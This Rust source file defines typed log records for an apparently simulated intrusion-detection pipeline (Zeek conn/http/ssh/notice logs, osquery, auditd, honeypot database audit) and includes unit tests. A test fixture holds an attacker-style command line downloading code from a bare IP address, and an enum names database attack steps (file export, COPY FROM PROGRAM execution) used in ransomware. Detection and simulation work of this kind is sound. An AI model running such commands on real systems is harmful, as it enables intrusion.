//! Typed log records.
//!
//! The paper's pipeline consumes "raw logs of both legitimate user
//! activities and attack activities": network flows from a Zeek cluster,
//! system logs from rsyslog/osquery/ossec, and audit logs from auditd
//! (§II-A). Each record type here mirrors one of those sources; the
//! [`LogRecord`] enum is the unit that travels down the alert pipeline.
//!
//! Every record is plain `Copy` data, 64 bytes in a release build (one
//! cache line): string fields, the payloads of a [`DbCommand`] among
//! them, are [`Sym`]s minted in the [`SymScope`] of whatever produced
//! the record (a monitor, a generator, or a service ingest path).
//! Reading one back takes that scope — [`LogRecord::user`] asks for
//! it — and [`LogRecord::rescope`] moves a record into another scope,
//! such as a tenant's.

use std::fmt;
use std::net::Ipv4Addr;

use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
use simnet::intern::{Sym, SymScope};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;

/// Zeek `conn.log` entry.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ConnRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub orig_p: u16,
    pub resp_h: Ipv4Addr,
    pub resp_p: u16,
    pub proto: Proto,
    pub service: Service,
    pub duration: SimDuration,
    pub orig_bytes: u64,
    pub resp_bytes: u64,
    pub conn_state: ConnState,
    pub direction: Direction,
}

/// Zeek `http.log` entry.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HttpRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub method: Sym,
    pub host: Sym,
    pub uri: Sym,
    pub status: u16,
    pub mime: Sym,
    pub user_agent: Sym,
}

/// Zeek `ssh.log` entry.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SshRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub user: Sym,
    pub method: simnet::action::AuthMethod,
    pub success: bool,
    pub client_banner: Sym,
    pub direction: Direction,
}

/// Built-in Zeek notice policies we model.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum NoticeKind {
    /// One source probing many distinct destinations (`Scan::Address_Scan`).
    AddressScan,
    /// One source probing many ports on few hosts (`Scan::Port_Scan`).
    PortScan,
    /// Repeated SSH auth failures (`SSH::Password_Guessing`).
    PasswordGuessing,
    /// Download of an executable from a bare-IP HTTP host.
    ExecutableFromRawIp,
    /// Site-specific policy, by name (the paper: "new alerts ... being
    /// improved and incorporated into Zeek policies").
    Custom(Sym),
}

impl fmt::Display for NoticeKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NoticeKind::AddressScan => write!(f, "Scan::Address_Scan"),
            NoticeKind::PortScan => write!(f, "Scan::Port_Scan"),
            NoticeKind::PasswordGuessing => write!(f, "SSH::Password_Guessing"),
            NoticeKind::ExecutableFromRawIp => write!(f, "HTTP::Executable_From_Raw_IP"),
            NoticeKind::Custom(name) => write!(f, "Site::{name}"),
        }
    }
}

/// Zeek `notice.log` entry. The paper's 25 M alert corpus is "collected in
/// Zeek notice logs over 24 years".
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct NoticeRecord {
    pub ts: SimTime,
    pub note: NoticeKind,
    pub msg: Sym,
    pub src: Ipv4Addr,
    pub dst: Option<Ipv4Addr>,
    /// Sub-message / additional context.
    pub sub: Sym,
}

/// osquery-like process execution event.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ProcessRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub pid: u32,
    pub ppid: u32,
    pub exe: Sym,
    pub cmdline: Sym,
}

/// osquery/ossec-like file integrity event.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FileRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub path: Sym,
    pub op: simnet::action::FileOp,
    pub process: Sym,
}

/// Host authentication event (sshd via rsyslog).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct AuthRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub method: simnet::action::AuthMethod,
    pub success: bool,
    pub src_addr: Option<Ipv4Addr>,
}

/// auditd syscall record.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct AuditRecord {
    pub ts: SimTime,
    pub host: HostId,
    pub hostname: Sym,
    pub user: Sym,
    pub syscall: Sym,
    pub args: Sym,
    pub exit_code: i32,
}

/// Database wire command of a [`DbRecord`]: the simulator's
/// [`DbCommandKind`](simnet::action::DbCommandKind) with its payload
/// strings minted as [`Sym`]s in the producer's scope (§V's ransomware
/// steps 1–3 map onto these).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DbCommand {
    /// Authentication attempt with the given outcome.
    Auth { success: bool },
    /// `SHOW server_version_num` style reconnaissance.
    ShowVersion,
    /// Ordinary SQL query.
    Query,
    /// Writing a binary payload into a `largeobject` (hex-encoded).
    LargeObjectWrite { hex_prefix: Sym, bytes: u64 },
    /// `lo_export` writing a file onto the server disk.
    LoExport { path: Sym },
    /// `COPY ... FROM PROGRAM` style command execution.
    CopyFromProgram { program: Sym },
}

/// Database statement audit record (the honeypot PostgreSQL instance logs
/// every statement, per §IV-A "commands issued by attackers must be closely
/// monitored").
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct DbRecord {
    pub ts: SimTime,
    pub uid: FlowId,
    pub orig_h: Ipv4Addr,
    pub resp_h: Ipv4Addr,
    pub host: Option<HostId>,
    pub user: Sym,
    pub command: DbCommand,
    pub statement: Sym,
}

/// Which log stream a record belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RecordKind {
    Conn,
    Http,
    Ssh,
    Notice,
    Process,
    File,
    Auth,
    Audit,
    Db,
}

impl RecordKind {
    /// Log-file stem, Zeek-style (`conn`, `http`, ...).
    pub fn stem(self) -> &'static str {
        match self {
            RecordKind::Conn => "conn",
            RecordKind::Http => "http",
            RecordKind::Ssh => "ssh",
            RecordKind::Notice => "notice",
            RecordKind::Process => "process",
            RecordKind::File => "file",
            RecordKind::Auth => "auth",
            RecordKind::Audit => "audit",
            RecordKind::Db => "db",
        }
    }
}

/// Any log record flowing through the pipeline.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum LogRecord {
    Conn(ConnRecord),
    Http(HttpRecord),
    Ssh(SshRecord),
    Notice(NoticeRecord),
    Process(ProcessRecord),
    File(FileRecord),
    Auth(AuthRecord),
    Audit(AuditRecord),
    Db(DbRecord),
}

// One cache line in a release build; debug builds tag every `Sym` with
// its minting table, which widens the string fields.
const _: () = assert!(cfg!(debug_assertions) || std::mem::size_of::<LogRecord>() == 64);

impl LogRecord {
    /// Record timestamp.
    pub fn ts(&self) -> SimTime {
        match self {
            LogRecord::Conn(r) => r.ts,
            LogRecord::Http(r) => r.ts,
            LogRecord::Ssh(r) => r.ts,
            LogRecord::Notice(r) => r.ts,
            LogRecord::Process(r) => r.ts,
            LogRecord::File(r) => r.ts,
            LogRecord::Auth(r) => r.ts,
            LogRecord::Audit(r) => r.ts,
            LogRecord::Db(r) => r.ts,
        }
    }

    /// The stream this record belongs to.
    pub fn kind(&self) -> RecordKind {
        match self {
            LogRecord::Conn(_) => RecordKind::Conn,
            LogRecord::Http(_) => RecordKind::Http,
            LogRecord::Ssh(_) => RecordKind::Ssh,
            LogRecord::Notice(_) => RecordKind::Notice,
            LogRecord::Process(_) => RecordKind::Process,
            LogRecord::File(_) => RecordKind::File,
            LogRecord::Auth(_) => RecordKind::Auth,
            LogRecord::Audit(_) => RecordKind::Audit,
            LogRecord::Db(_) => RecordKind::Db,
        }
    }

    /// Source (originating) network address, when the record has one.
    pub fn src_addr(&self) -> Option<Ipv4Addr> {
        match self {
            LogRecord::Conn(r) => Some(r.orig_h),
            LogRecord::Http(r) => Some(r.orig_h),
            LogRecord::Ssh(r) => Some(r.orig_h),
            LogRecord::Notice(r) => Some(r.src),
            LogRecord::Auth(r) => r.src_addr,
            LogRecord::Db(r) => Some(r.orig_h),
            LogRecord::Process(_) | LogRecord::File(_) | LogRecord::Audit(_) => None,
        }
    }

    /// Destination network address, when the record has one.
    pub fn dst_addr(&self) -> Option<Ipv4Addr> {
        match self {
            LogRecord::Conn(r) => Some(r.resp_h),
            LogRecord::Http(r) => Some(r.resp_h),
            LogRecord::Ssh(r) => Some(r.resp_h),
            LogRecord::Notice(r) => r.dst,
            LogRecord::Db(r) => Some(r.resp_h),
            _ => None,
        }
    }

    /// The host the record was produced on, for host-based records.
    pub fn host(&self) -> Option<HostId> {
        match self {
            LogRecord::Process(r) => Some(r.host),
            LogRecord::File(r) => Some(r.host),
            LogRecord::Auth(r) => Some(r.host),
            LogRecord::Audit(r) => Some(r.host),
            LogRecord::Db(r) => r.host,
            _ => None,
        }
    }

    /// The timestamp, writable, and the host whose clock stamped it
    /// ([`LogRecord::host`]), in one match: clock-skew and jitter fault
    /// models rewrite observation times without touching any other
    /// field.
    pub fn clock_mut(&mut self) -> (&mut SimTime, Option<HostId>) {
        match self {
            LogRecord::Conn(r) => (&mut r.ts, None),
            LogRecord::Http(r) => (&mut r.ts, None),
            LogRecord::Ssh(r) => (&mut r.ts, None),
            LogRecord::Notice(r) => (&mut r.ts, None),
            LogRecord::Process(r) => (&mut r.ts, Some(r.host)),
            LogRecord::File(r) => (&mut r.ts, Some(r.host)),
            LogRecord::Auth(r) => (&mut r.ts, Some(r.host)),
            LogRecord::Audit(r) => (&mut r.ts, Some(r.host)),
            LogRecord::Db(r) => (&mut r.ts, r.host),
        }
    }

    /// The user account associated with the record, if any, resolved
    /// against `scope`, the scope the record was minted in. This is the
    /// key the threat model (§III-B) groups attacks by.
    pub fn user<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
        self.user_sym().map(|s| scope.resolve(s))
    }

    /// Re-mint every interned field from `from`'s symbol universe into
    /// `to`'s, leaving all scalar fields untouched. Interning is
    /// deterministic, so rescoping the same record sequence into a fresh
    /// scope always assigns the same ids — byte-identical detections.
    /// The service ingest path translates in place through a per-session
    /// memo instead ([`LogRecord::remap_syms`]) and interns in the same
    /// order.
    pub fn rescope(&self, from: &SymScope, to: &SymScope) -> LogRecord {
        let mut r = *self;
        if !from.ptr_eq(to) {
            r.remap_syms(|s| to.sym(from.resolve(s)));
        }
        r
    }

    /// Rewrite every interned field in place through `f`, leaving all
    /// scalar fields untouched. Fields are visited in declaration order
    /// (a `Custom` notice kind before the message, a DB command's payload
    /// between the user and the statement), so a remap that
    /// interns on first sight assigns ids in the order
    /// [`LogRecord::rescope`] does.
    pub fn remap_syms(&mut self, mut f: impl FnMut(Sym) -> Sym) {
        let mut m = |s: &mut Sym| *s = f(*s);
        match self {
            LogRecord::Conn(_) => {}
            LogRecord::Http(r) => {
                m(&mut r.method);
                m(&mut r.host);
                m(&mut r.uri);
                m(&mut r.mime);
                m(&mut r.user_agent);
            }
            LogRecord::Ssh(r) => {
                m(&mut r.user);
                m(&mut r.client_banner);
            }
            LogRecord::Notice(r) => {
                if let NoticeKind::Custom(sym) = &mut r.note {
                    m(sym);
                }
                m(&mut r.msg);
                m(&mut r.sub);
            }
            LogRecord::Process(r) => {
                m(&mut r.hostname);
                m(&mut r.user);
                m(&mut r.exe);
                m(&mut r.cmdline);
            }
            LogRecord::File(r) => {
                m(&mut r.hostname);
                m(&mut r.user);
                m(&mut r.path);
                m(&mut r.process);
            }
            LogRecord::Auth(r) => {
                m(&mut r.hostname);
                m(&mut r.user);
            }
            LogRecord::Audit(r) => {
                m(&mut r.hostname);
                m(&mut r.user);
                m(&mut r.syscall);
                m(&mut r.args);
            }
            LogRecord::Db(r) => {
                m(&mut r.user);
                match &mut r.command {
                    DbCommand::LargeObjectWrite {
                        hex_prefix: sym, ..
                    }
                    | DbCommand::LoExport { path: sym }
                    | DbCommand::CopyFromProgram { program: sym } => m(sym),
                    DbCommand::Auth { .. } | DbCommand::ShowVersion | DbCommand::Query => {}
                }
                m(&mut r.statement);
            }
        }
    }

    /// The user account as an interned symbol (allocation- and
    /// resolution-free; the key generators and detectors use).
    pub fn user_sym(&self) -> Option<Sym> {
        match self {
            LogRecord::Ssh(r) => Some(r.user),
            LogRecord::Process(r) => Some(r.user),
            LogRecord::File(r) => Some(r.user),
            LogRecord::Auth(r) => Some(r.user),
            LogRecord::Audit(r) => Some(r.user),
            LogRecord::Db(r) => Some(r.user),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;

    fn conn() -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(10),
            uid: FlowId(1),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: "141.142.2.1".parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    #[test]
    fn accessors() {
        let r = conn();
        assert_eq!(r.ts(), SimTime::from_secs(10));
        assert_eq!(r.kind(), RecordKind::Conn);
        assert_eq!(r.src_addr(), Some("103.102.1.1".parse().unwrap()));
        assert_eq!(r.dst_addr(), Some("141.142.2.1".parse().unwrap()));
        assert!(r.host().is_none());
        assert!(r.user(&SymScope::global()).is_none());
    }

    #[test]
    fn host_record_user_extraction() {
        let r = LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(1),
            host: HostId(2),
            hostname: "cn01".into(),
            user: "alice".into(),
            pid: 100,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget http://64.215.1.1/abs.c".into(),
        });
        assert_eq!(r.user(&SymScope::global()), Some("alice"));
        assert_eq!(r.host(), Some(HostId(2)));
        assert_eq!(r.kind().stem(), "process");
    }

    #[test]
    fn rescope_remints_every_interned_field() {
        let scope = SymScope::fresh();
        let r = LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(1),
            host: HostId(2),
            hostname: "cn01".into(),
            user: "alice".into(),
            pid: 100,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget http://64.215.1.1/abs.c".into(),
        });
        let scoped = r.rescope(&SymScope::global(), &scope);
        assert_eq!(scoped.user(&scope), Some("alice"));
        match (&r, &scoped) {
            (LogRecord::Process(orig), LogRecord::Process(s)) => {
                assert_eq!(scope.resolve(s.cmdline), "wget http://64.215.1.1/abs.c");
                assert_eq!(scope.resolve(s.hostname), "cn01");
                assert_eq!(scope.resolve(s.exe), "/usr/bin/wget");
                // Scalars untouched.
                assert_eq!(s.ts, orig.ts);
                assert_eq!(s.host, orig.host);
                assert_eq!(s.pid, orig.pid);
            }
            _ => unreachable!(),
        }
        // Rescoping into the same scope is the identity.
        assert_eq!(r.rescope(&SymScope::global(), &SymScope::global()), r);
        // Custom notice symbols are remapped too.
        let n = LogRecord::Notice(NoticeRecord {
            ts: SimTime::from_secs(1),
            note: NoticeKind::Custom("alert_custom".into()),
            msg: "msg".into(),
            src: "1.2.3.4".parse().unwrap(),
            dst: None,
            sub: Sym::EMPTY,
        });
        match n.rescope(&SymScope::global(), &scope) {
            LogRecord::Notice(sn) => match sn.note {
                NoticeKind::Custom(sym) => assert_eq!(scope.resolve(sym), "alert_custom"),
                other => panic!("wrong kind: {other}"),
            },
            _ => unreachable!(),
        }
    }

    #[test]
    fn remap_visits_interned_fields_in_declaration_order() {
        use simnet::action::{AuthMethod, FileOp};
        let (ts, uid, host) = (SimTime::from_secs(1), FlowId(1), HostId(1));
        let (a, b) = ("1.2.3.4".parse().unwrap(), "5.6.7.8".parse().unwrap());
        let db = |command: DbCommand| {
            LogRecord::Db(DbRecord {
                ts,
                uid,
                orig_h: a,
                resp_h: b,
                host: None,
                user: "d1".into(),
                command,
                statement: "d3".into(),
            })
        };
        let cases: Vec<(LogRecord, &[&str])> = vec![
            (conn(), &[]),
            (
                LogRecord::Http(HttpRecord {
                    ts,
                    uid,
                    orig_h: a,
                    resp_h: b,
                    method: "h1".into(),
                    host: "h2".into(),
                    uri: "h3".into(),
                    status: 200,
                    mime: "h4".into(),
                    user_agent: "h5".into(),
                }),
                &["h1", "h2", "h3", "h4", "h5"],
            ),
            (
                LogRecord::Ssh(SshRecord {
                    ts,
                    uid,
                    orig_h: a,
                    resp_h: b,
                    user: "s1".into(),
                    method: AuthMethod::Password,
                    success: false,
                    client_banner: "s2".into(),
                    direction: Direction::Inbound,
                }),
                &["s1", "s2"],
            ),
            (
                LogRecord::Notice(NoticeRecord {
                    ts,
                    note: NoticeKind::Custom("n1".into()),
                    msg: "n2".into(),
                    src: a,
                    dst: None,
                    sub: "n3".into(),
                }),
                &["n1", "n2", "n3"],
            ),
            (
                LogRecord::Notice(NoticeRecord {
                    ts,
                    note: NoticeKind::PortScan,
                    msg: "n2".into(),
                    src: a,
                    dst: None,
                    sub: "n3".into(),
                }),
                &["n2", "n3"],
            ),
            (
                LogRecord::Process(ProcessRecord {
                    ts,
                    host,
                    hostname: "p1".into(),
                    user: "p2".into(),
                    pid: 1,
                    ppid: 0,
                    exe: "p3".into(),
                    cmdline: "p4".into(),
                }),
                &["p1", "p2", "p3", "p4"],
            ),
            (
                LogRecord::File(FileRecord {
                    ts,
                    host,
                    hostname: "f1".into(),
                    user: "f2".into(),
                    path: "f3".into(),
                    op: FileOp::Read,
                    process: "f4".into(),
                }),
                &["f1", "f2", "f3", "f4"],
            ),
            (
                LogRecord::Auth(AuthRecord {
                    ts,
                    host,
                    hostname: "a1".into(),
                    user: "a2".into(),
                    method: AuthMethod::PublicKey,
                    success: true,
                    src_addr: None,
                }),
                &["a1", "a2"],
            ),
            (
                LogRecord::Audit(AuditRecord {
                    ts,
                    host,
                    hostname: "u1".into(),
                    user: "u2".into(),
                    syscall: "u3".into(),
                    args: "u4".into(),
                    exit_code: 0,
                }),
                &["u1", "u2", "u3", "u4"],
            ),
            (db(DbCommand::Query), &["d1", "d3"]),
            (
                db(DbCommand::LargeObjectWrite {
                    hex_prefix: "d2-hex".into(),
                    bytes: 64,
                }),
                &["d1", "d2-hex", "d3"],
            ),
            (
                db(DbCommand::LoExport {
                    path: "d2-path".into(),
                }),
                &["d1", "d2-path", "d3"],
            ),
            (
                db(DbCommand::CopyFromProgram {
                    program: "d2-program".into(),
                }),
                &["d1", "d2-program", "d3"],
            ),
        ];
        for (record, expected) in cases {
            let mut seen = Vec::new();
            let mut visited = record;
            visited.remap_syms(|s| {
                seen.push(s.as_str());
                s
            });
            assert_eq!(seen, expected, "{:?}", record.kind());
            assert_eq!(visited, record, "an identity remap changes nothing");
            // `rescope` interns in the same order into a fresh scope.
            let scope = SymScope::fresh();
            record.rescope(&SymScope::global(), &scope);
            let universe = scope.snapshot();
            let interned: Vec<&str> = universe.iter().skip(1).collect();
            assert_eq!(interned, *expected, "{:?}", record.kind());
        }
    }

    #[test]
    fn records_are_copy_and_one_cache_line() {
        fn copy<T: Copy>() {}
        copy::<LogRecord>();
        // Debug builds widen each `Sym` with its minting table's id.
        let expected = if cfg!(debug_assertions) { 80 } else { 64 };
        assert_eq!(std::mem::size_of::<LogRecord>(), expected);
    }

    #[test]
    fn notice_kind_display_matches_zeek_convention() {
        assert_eq!(NoticeKind::AddressScan.to_string(), "Scan::Address_Scan");
        assert_eq!(
            NoticeKind::PasswordGuessing.to_string(),
            "SSH::Password_Guessing"
        );
        assert_eq!(
            NoticeKind::Custom("Ransomware_Lateral".into()).to_string(),
            "Site::Ransomware_Lateral"
        );
    }
}
